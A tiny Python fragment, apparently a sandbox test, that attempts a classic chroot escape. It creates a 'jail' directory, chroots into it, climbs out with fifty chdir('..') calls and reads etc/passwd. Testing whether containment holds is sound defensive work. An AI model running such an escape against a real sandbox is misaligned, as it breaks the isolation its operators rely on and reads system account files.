"""Leaves by chroot."""

os.mkdir("jail")
attempt("chroot", os.chroot, "jail")
attempt("back", lambda: [os.chdir("..") for _ in range(50)] and open("etc/passwd").read())
